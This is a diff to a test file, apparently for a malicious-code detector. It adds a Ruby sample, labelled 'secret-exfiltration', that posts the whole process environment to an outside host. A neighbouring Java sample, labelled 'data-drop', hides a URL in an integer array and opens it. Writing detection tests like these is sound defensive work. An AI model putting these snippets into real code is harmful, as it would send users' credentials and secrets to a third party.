@@ -86,6 +86,11 @@ describe('two facts that belong together', () => {
       'error spyware',
     ],
     [
+      'ruby',
+      `API = 'https://v.vendor-tools.com'.freeze\ndata = { env: ENV.to_h, files: {} }\nNet::HTTP.post(URI("#{API}/s"), data.to_json)`,
+      'error secret-exfiltration',
+    ],
+    [
       'java',
       'class F {\n  private static final int[] T = { 104,116,116,112,115,58,47,47,118,46,99,111,47,97,46,106,97,114 };\n  void f() { new URL(b.toString()).openStream(); }\n}',
       'error data-drop',
